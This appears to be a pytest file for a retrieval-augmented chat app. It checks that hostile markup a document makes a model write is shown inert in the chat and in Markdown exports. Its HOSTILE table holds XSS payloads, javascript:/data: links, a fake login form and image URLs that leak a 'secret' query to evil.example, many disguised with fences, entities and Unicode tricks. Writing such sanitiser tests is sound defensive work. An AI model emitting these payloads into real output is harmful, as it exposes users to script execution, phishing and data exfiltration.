"""Whatever a document makes a model write, the chat shows text, and an export is inert in any viewer."""

import re
from collections.abc import Iterator
from datetime import UTC, datetime
from html import unescape

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from rag_app.ui import markup, portable, render
from rag_app.ui.export import markdown
from rag_core.ledger.conversations import Conversation, Exchange
from rag_core.models import Answer, Citation, SentenceSupport, Timings

EVIL = "evil.example"
IMAGE = f"![x](https://{EVIL}/a.png?q=secret)"
LINK = f"[click](https://{EVIL}/x)"
FORM = f'<form action="https://{EVIL}"><input name=p><button>Log in</button></form>'

# ruff: noqa: E501 - an attack is read best on one line
HOSTILE = {
    "form": FORM,
    "form in words": f"Please sign in again: {FORM} thanks.",
    "form in a block": f"\n\n<div>\n\n{FORM}\n\n</div>\n\n",
    "script": "<script>alert(1)</script>",
    "unclosed tag": '<img src=x onerror="alert(1)"',
    "comment": f"<!-- --> {IMAGE} <!-- {LINK} -->",
    "comment unclosed": f"<!-- {IMAGE}",
    "cdata": f"<![CDATA[ {IMAGE} ]]> <?php {LINK} ?> <!DOCTYPE html>",
    "end of our box": "</p></div></details><h1>Ragdock</h1><a href=//evil.example>x</a>",
    "image": IMAGE,
    "image in image": f"![a ![b]({EVIL}/b.png) c](//{EVIL}/c.png)",
    "link": LINK,
    "link around an image": f"[{IMAGE}](https://{EVIL})",
    "javascript": "[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](&#106;avascript:alert(1))",
    "data": "[click](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "vbscript": "[click](vbscript:msgbox) [x](file:///etc/passwd)",
    "autolink": f"<https://{EVIL}> <mailto:a@{EVIL}> <javascript:alert(1)> <a@{EVIL}>",
    "bare": f"https://{EVIL}/x http://{EVIL} www.{EVIL} ftp://{EVIL} a@{EVIL} {EVIL}/x mailto:a@{EVIL}",
    "bare in signs": f"(https://{EVIL}/x), **www.{EVIL}**, “https://{EVIL}”; _a@{EVIL}_ `x`https://{EVIL}",
    "reference": f"[a][b] and [b] and [b][]\n\n[b]: https://{EVIL} 'title'\n",
    "reference of a citation": f"So it is [1].\n\n[1]: https://{EVIL}\n[2]: <javascript:alert(1)>\n",
    "image by reference": f"![a][b]\n\n[b]: https://{EVIL}/a.png\n",
    "nested brackets": f"[a [b] c](//{EVIL}) [[x]](//{EVIL}) [a](<//{EVIL}>) [a\\](//{EVIL}) ](//{EVIL})",
    "citation as a link": f"[1](https://{EVIL}) [1][b] ![1](//{EVIL}/a.png) [1, 2](//{EVIL})\n\n[b]: //{EVIL}",
    "escaped": f"\\[a\\](//{EVIL}) \\\\[a](//{EVIL}) \\![a](//{EVIL}/a.png) \\`{IMAGE}\\`",
    "fence in a list": f"- a\n\n    ```\n    {IMAGE}\n    ```\n    {LINK}\n",
    "fence four blanks in": f"    ```\n{IMAGE}\n    ```\n",
    "fence of tildes and backticks": f"~~~\n```\n{IMAGE}\n~~~\n{LINK}\n```\n{FORM}\n",
    "fence with a backtick in its head": f"``` a`b\n{IMAGE}\n```\n{LINK}",
    "fence unclosed": f"```html\n{FORM}\n{IMAGE}",
    "fence in a quote": f"> ```\n> {IMAGE}\n{IMAGE}\n```\n{LINK}",
    "fence inside a longer one": f"````\n```\n{IMAGE}\n```\n{FORM}\n````\n{LINK}",
    "fence drawn by viewers": f'```mermaid\ngraph TD; A-->B; click A "https://{EVIL}"\n```\n\n```math\n\\href{{{EVIL}}}\n```',
    "code spans": f"``{IMAGE}` ``` {LINK}`` `{FORM}``",
    "code beside code": f"``![i](//{EVIL}/a.png)`b```c.example` `a`https://x`{IMAGE}",
    "code over lines": f"`a\n\n{IMAGE}`",
    "code with backticks at its ends": f"`` `{IMAGE}` `` ``` ``{FORM} ```",
    "table": f"| a | {LINK} |\n|---|---|\n| {IMAGE} | `\\|` {FORM} |\n| `a \\| {IMAGE}` | \\| {LINK} |",
    "entities": "&lt;script&gt; &#60;img src=x&#62; &#x3c;a href=x&#x3e; &NewLine;&NewLine;&Tab;# x&colon;//y &lbrack;a&rpar;",
    "entities of blank lines": f"a&#10;&#10;{IMAGE}&#10;&#10;    {FORM}&#13;&#13;# b",
    "setext": f"{LINK}\n===\n\n{IMAGE}\n---\n",
    "headings": f"# {IMAGE}\n## {LINK} ##\n####### {FORM}",
    "footnote": f"a[^1] ^[inline {IMAGE}]\n\n[^1]: https://{EVIL}\n\n*[HTML]: https://{EVIL}",
    "mathematics": f"$$\\href{{javascript:alert(1)}}{{x}}$$ \\(\\href{{//{EVIL}}}{{y}}\\) \\[z\\] \\begin{{a}} $x$",
    "containers": f"::: warning\n{IMAGE}\n:::\n\n!!! note\n    {IMAGE}\n\n{{: href=//{EVIL}}}\n\n{{{{ x }}}} {{% y %}} ${{z}}",
    "wiki": f"[[https://{EVIL}|x]] ![[{EVIL}/a.png]] {{{{{EVIL}}}}}",
    "front matter": f"---\ntitle: {LINK}\n---\n",
    "lists": f"1) {IMAGE}\n2) {LINK}\n\n+ {FORM}\n\n- [ ] {LINK}\n\n10. - > {IMAGE}",
    "deep": f"{'> ' * 200}{IMAGE}\n\n{'- ' * 200}{LINK}\n\n{'*' * 400}{IMAGE}{'[' * 400}{LINK}",
    "line ends": f"a\u2028{IMAGE}\u2029{LINK}\x0b{FORM}\x0c# x\x85> y\r\r{IMAGE}\r\n\r\n{LINK}",
    "nulls": f"\x00<\x00script>\x00 [a](\x00//{EVIL}) \ufeff{IMAGE}\x1b[2J",
    "blanks that are none": f"\u00a0\u00a0\u00a0\u00a0{IMAGE} \u3000\u2003# {LINK} \u200b[a]\u200b(//{EVIL})",
    "direction": f"\u202e{LINK}\u202c \u2066{FORM}\u2069",
    "look-alikes": f"\uff1cscript\uff1e \uff3ba\uff3d(//{EVIL}) htt\u200bps://{EVIL} \u2039a\u203a https\uff1a//{EVIL}",
    "hard breaks": f"a  \n{IMAGE}\\\n{LINK}",
    "our own marks": '<button class="rd-open" value="x/1/1">y</button> <span class="rd-x-0123456789abcdef">',
}
OURS = {
    **{name: set[str]() for name in "p h1 h2 h3 h4 h5 h6 ul li table thead tbody tr td".split()},  # noqa: SIM905
    **{name: set[str]() for name in "strong em s code pre hr br b mark dl dt dd".split()},  # noqa: SIM905
    "ol": {"start"},
    "div": {"class", "tabindex"},
    "span": {"class", "title"},
    "sup": {"class", "title"},
    "button": {"class", "value", "title"},
    "details": {"class"},
    "summary": {"class"},
    "blockquote": {"tabindex"},
    "th": {"scope"},
}
hostile = pytest.mark.parametrize("written", HOSTILE.values(), ids=HOSTILE)


def elements(html: str) -> Iterator[tuple[str, set[str]]]:
    """Every element with its attributes, as two different parsers see them."""
    for parser in ("html.parser", "lxml"):
        for one in BeautifulSoup(html, parser).find_all(True):
            if one.name not in {"html", "body"}:
                yield one.name, set(one.attrs)


def answer(written: str) -> Answer:
    """An answer with this text in every field that can contain untrusted text."""
    cited = Citation(
        number=1,
        document_id="d",
        document=written,
        title=written,
        page_start=1,
        page_end=2,
        passage=written,
        also_in=(written, "other.txt"),
    )
    sentences = (SentenceSupport(text=written), SentenceSupport(text="It is so.", citations=(1,)))
    return Answer(
        answer=written, citations=(cited,), sentences=sentences, model=written, timings=Timings(total=1.0)
    )


def export(written: str) -> str:
    """A conversation with this text as title, question and answer, as Markdown."""
    now = datetime(2026, 1, 2, tzinfo=UTC)
    exchange = Exchange(id="e", conversation_id="c", question=written, answer=answer(written), asked_at=now)
    return markdown(
        Conversation(id="c", title=written, created_at=now, updated_at=now, exchanges=(exchange,))
    )


@hostile
def test_the_chat_holds_only_elements_of_ours(written: str) -> None:
    """This also holds after the browser's Markdown renderer."""
    browser = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])
    for shown in (
        render.model_markdown(written),
        render.answer_markdown(answer(written), written, "0123456789abcdef"),
        render.question_markdown(written),
        render.note(written),
        # While an answer is being written, its end is missing.
        *(render.model_markdown(written[:end]) for end in range(0, len(written), 7)),
    ):
        assert "\n" not in shown.replace("\n\n<", "")
        assert browser.render(shown).replace("\n", "") == shown.replace("\n", "")
        for name, attributes in elements(shown):
            assert name in OURS, name
            assert attributes <= OURS[name], (name, attributes)
        buttons = [" ".join(one["class"]) for one in BeautifulSoup(shown, "lxml").find_all("button")]
        assert set(buttons) <= {"rd-cite", "rd-open", "rd-copy"}
        assert buttons.count("rd-open") <= 1


@hostile
def test_the_chat_shows_all_the_words(written: str) -> None:
    """Nothing is removed: the reader sees what the model was made to write."""
    text = BeautifulSoup(render.model_markdown(written), "html.parser").get_text(" ")
    for word in re.findall(r"[a-z]{5,}", unescape(re.sub(r"(?m)^\s*```.*$", "", written))):
        assert word in text, word


@hostile
def test_an_export_is_inert_in_every_viewer(written: str) -> None:
    for exported in (export(written), portable.markdown(written), portable.one_line(written)):
        for viewer in (
            MarkdownIt("commonmark", {"html": True}),
            MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
        ):
            html = viewer.render(exported)
            for name, attributes in elements(html):
                assert name in OURS, (name, exported)
                assert attributes <= {"start"}, (name, attributes, exported)
            soup = BeautifulSoup(html, "html.parser")
            for code in soup.find_all("code"):
                code.decompose()
            read = soup.get_text()
            assert not re.search(r"://|@|(?i:www\.)|\$\$|\\|[a-z]\.example", read), read


def test_an_export_names_the_copies_of_a_passage() -> None:
    assert "“So it is.” The same passage is also in So it is., `other.txt`." in export("So it is.")


def test_an_export_shortens_a_passage_without_blanks_near_its_end() -> None:
    quoted = re.search("“(.+) …”", export("第3章 " + "灯台の灯火は海面から四十メートルの高さにある。" * 40))
    assert quoted
    assert 480 < len(quoted[1]) <= 600


@hostile
def test_an_export_read_again_says_the_same(written: str) -> None:
    """Escaping keeps the text: no character is added or lost."""

    def letters(text: str) -> str:
        tokens = markup.parse(text)
        children = [child for token in tokens for child in token.children or (token,)]
        return "".join(character for one in children for character in one.content if character.isalnum())

    assert letters(portable.markdown(written)) == letters(written)


def test_an_export_keeps_what_markdown_is_for() -> None:
    written = (
        "# A\n\n- b *c*\n  1. d\n\n> e `f`\n\n```r\nx <- 1\n\ny\n```\n\n| g | h |\n|---|---|\n| 1 | 2 [3] |\n"
    )
    exported = portable.markdown(written)
    assert exported == (
        "### A\n\n- b *c*\n\n  1. d\n\n> e `f`\n\n```\nx <- 1\n\ny\n```\n\n"
        "| g | h |\n| --- | --- |\n| 1 | 2 \\[3\\] |"
    )


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("Costs: 5 $ (net), 3.14 - or so!", r"Costs: 5 \$ (net), 3.14 - or so\!"),
        ("see R-intro.pdf, page 3", "see `R-intro.pdf`, page 3"),
        ("1. no list", r"1\. no list"),
        ("- no list", r"\- no list"),
        ("a\n\n# b", r"a \# b"),
        ("<b>&amp;</b>", r"\<b\>\&amp;\</b\>"),
    ],
)
def test_a_line_of_an_export_is_readable(text: str, escaped: str) -> None:
    assert portable.one_line(text) == escaped
